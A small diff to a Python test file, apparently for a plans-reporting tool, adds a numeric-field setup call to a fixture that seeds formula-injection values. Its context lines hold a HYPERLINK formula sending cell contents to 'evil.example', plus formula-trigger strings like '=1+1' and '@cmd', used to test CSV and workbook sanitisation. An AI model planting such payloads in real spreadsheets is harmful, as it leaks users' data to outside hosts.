@@ -23,7 +23,7 @@ from naptrack.core.spreadsheets import FORMULA_TRIGGERS, csv_safe
 from naptrack.plans.models import Action, Department, Instrument, Note, Objective
 from naptrack.reporting import workbook
 from tests.conftest import BE, logged_in
-from tests.portal_data import fill, new_round, publish
+from tests.portal_data import as_numbers, fill, new_round, publish
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 HOSTILE = [HYPERLINK, "=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"]
@@ -54,6 +54,7 @@ def hostile_round(plan, coordinator, focal_defence, focal_justice, monkeypatch):
     fill(round_, "1.a", "justice", focal_justice, coordinator, narrative=HYPERLINK, answers={1: {"text": "=1+1"}})
     fill(round_, "23.a", "defence", focal_defence, coordinator, narrative="+SUM(A1)", answers={1: {"women": 7}})
     fill(round_, "21", "defence", focal_defence, coordinator, narrative="\r=x", answers={2: {"women": 1, "men": 2}})
+    as_numbers(plan, "16.a")
     fill(
         round_,
         "16.a",
